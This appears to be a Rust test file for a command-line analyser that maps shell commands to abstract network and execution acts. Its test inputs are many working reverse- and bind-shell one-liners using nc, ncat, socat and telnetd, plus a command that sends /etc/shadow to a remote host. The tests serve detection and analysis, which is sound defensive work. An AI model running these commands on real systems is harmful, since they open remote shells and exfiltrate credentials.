//! Connections.

use model::{Provenance, Stream, Value};

use super::*;

#[test]
fn netcat_ties_a_program_to_its_connection() {
    let shell = "connect 1 192.0.2.1 4444 ; execute /bin/sh <#1 >#1";
    check(&[
        ("nc -e /bin/sh 192.0.2.1 4444", shell),
        ("nc 192.0.2.1 4444 -e /bin/sh", shell),
        ("/usr/bin/ncat --exec /bin/sh 192.0.2.1 4444", shell),
        ("ncat --exec=/bin/sh 192.0.2.1 4444", shell),
        ("busybox nc 192.0.2.1 4444 -e /bin/sh", shell),
        ("/bin/busybox.static nc 192.0.2.1 4444 -e /bin/sh", shell),
        ("nc.traditional -nve /bin/sh 192.0.2.1 4444", shell),
        ("rlwrap nc -w 3 -e /bin/sh 192.0.2.1 4444", shell),
        ("nohup setsid nc -e/bin/sh 192.0.2.1 4444", shell),
        (
            "nc 192.0.2.1 4444 -e /bin/bash -i",
            "connect 1 192.0.2.1 4444 ; execute /bin/bash -i <#1 >#1",
        ),
        (
            "ncat -e '/bin/bash -i' 192.0.2.1 4444",
            "connect 1 192.0.2.1 4444 ; execute /bin/bash -i <#1 >#1",
        ),
        (
            "nc -c 'id' 192.0.2.1 4444",
            "connect 1 192.0.2.1 4444 ; evaluate shell `id` ; send 1 {output of id}",
        ),
        (
            "ncat --udp -e sh 192.0.2.1 53",
            "connect 1 udp 192.0.2.1 53 ; execute sh <#1 >#1",
        ),
        (
            "ncat --ssl -e sh 192.0.2.1 443",
            "connect 1 tls 192.0.2.1 443 ; execute sh <#1 >#1",
        ),
    ]);
}

#[test]
fn netcat_waits() {
    check(&[
        (
            "nc -lvp 4444 -e /bin/sh",
            "listen 1 :4444 ; execute /bin/sh <#1 >#1",
        ),
        (
            "nc -lp4444 -e /bin/sh",
            "listen 1 :4444 ; execute /bin/sh <#1 >#1",
        ),
        (
            "nc -l 4444 -e /bin/sh",
            "listen 1 :4444 ; execute /bin/sh <#1 >#1",
        ),
        (
            "ncat -lk 0.0.0.0 31337 --sh-exec id",
            "listen 1 0.0.0.0:31337 ; evaluate shell `id` ; send 1 {output of id}",
        ),
        ("nc -l 8080", "listen 1 :8080"),
        ("nc -lU /tmp/s", "listen 1 unix :/tmp/s"),
    ]);
}

#[test]
fn netcat_that_only_looks() {
    check(&[
        ("nc -z db 5432", "connect 1 db 5432"),
        ("nc -zv -w 2 db 5432", "connect 1 db 5432"),
        ("nc -h", "execute nc -h"),
        ("nc", "execute nc"),
    ]);
    assert_eq!(prints("nc -z db 5432", ""), Value::literal(""));
}

#[test]
fn what_is_piped_in_is_sent_and_what_comes_back_is_received() {
    for line in [
        "nc h 1",
        "telnet h 1",
        "busybox telnet h 1",
        "socat - TCP:h:1",
        "socat tcp4:h:1,retry=3 STDIO",
    ] {
        let outcome = outcome(|_| {}, line, Some("secret".into()));
        assert_eq!(outcome.acts, ["connect 1 h 1", "send 1 secret"], "{line}");
        assert_eq!(outcome.printed.from, [Provenance::Received(1)], "{line}");
    }
}

#[test]
fn a_named_pipe_ties_a_shell_to_the_connection() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    let from_pipe = run(&mut world, Call::new("cat".into(), vec!["/tmp/f".into()]));
    let mut shell = Call::new("/bin/sh".into(), vec!["-i".into()]);
    shell.input = Stream::Text(from_pipe);
    let printed = run(&mut world, shell);
    let mut nc = Call::new("nc".into(), vec!["h".into(), "1".into()]);
    nc.input = Stream::Text(printed);
    nc.output = Stream::File("/tmp/f".into());
    run(&mut world, nc);
    let acts: Vec<String> = world
        .finish()
        .acts
        .iter()
        .map(|act| show(&act.behavior))
        .collect();
    assert_eq!(
        acts,
        [
            "read /tmp/f",
            "execute /bin/sh -i <#1",
            "evaluate shell `{content of /tmp/f}`",
            "connect 1 h 1",
            "send 1 {output of shell}",
            "write /tmp/f > `{received}`",
        ]
    );
}

#[test]
fn socat_in_either_order() {
    check(&[
        (
            "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
            "connect 1 192.0.2.1 4444 ; execute /bin/sh <#1 >#1",
        ),
        (
            "socat exec:\"'bash -li'\",pty,stderr,setsid tcp:192.0.2.1:4444",
            "connect 1 192.0.2.1 4444 ; execute bash -li <#1 >#1",
        ),
        (
            "socat -d -d TCP4-LISTEN:9001,reuseaddr,fork EXEC:bash,pty",
            "listen 1 :9001 ; execute bash <#1 >#1",
        ),
        (
            "socat OPENSSL:h:443,verify=0 SYSTEM:'id -u'",
            "connect 1 tls h 443 ; evaluate shell `id -u` ; send 1 {output of id}",
        ),
        (
            "socat UDP:h:53 EXEC:sh",
            "connect 1 udp h 53 ; execute sh <#1 >#1",
        ),
        (
            "socat UNIX-CONNECT:/s EXEC:sh",
            "connect 1 unix /s  ; execute sh <#1 >#1",
        ),
        (
            "socat TCP-LISTEN:80,fork TCP:db:80",
            "listen 1 :80 ; connect 2 db 80",
        ),
        (
            "socat -u FILE:/etc/shadow TCP:h:1",
            "connect 1 h 1 ; read /etc/shadow ; send 1 {content of /etc/shadow}",
        ),
        (
            "socat TCP6:[2001:db8::1]:99 EXEC:sh",
            "connect 1 2001:db8::1 99 ; execute sh <#1 >#1",
        ),
        (
            "socat SOCKS4A:127.0.0.1:h.example:80,socksport=9050 EXEC:sh",
            "connect 1 h.example 80 ; execute sh <#1 >#1",
        ),
    ]);
}

#[test]
fn other_ways_to_connect() {
    check(&[
        (
            "openssl s_client -quiet -connect 192.0.2.1:443",
            "connect 1 tls 192.0.2.1 443",
        ),
        ("openssl s_server -quiet -accept 443", "listen 1 tls :443"),
        (
            "telnetd -l /bin/sh -p 9999",
            "listen 1 :9999 ; execute /bin/sh <#1 >#1",
        ),
        (
            "busybox telnetd -p 9999 -l/bin/sh -F",
            "listen 1 :9999 ; execute /bin/sh <#1 >#1",
        ),
        (
            "ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 u@h.example -N",
            "execute ssh -o StrictHostKeyChecking=no -R 2222:localhost:22 u@h.example -N ; connect 1 h.example 22",
        ),
        (
            "ssh -o ProxyCommand=id x",
            "evaluate shell `id` ; execute ssh -o ProxyCommand=id x ; connect 1 x 22",
        ),
        ("sshpass -p x ssh h", "execute ssh h ; connect 1 h 22"),
    ]);
}
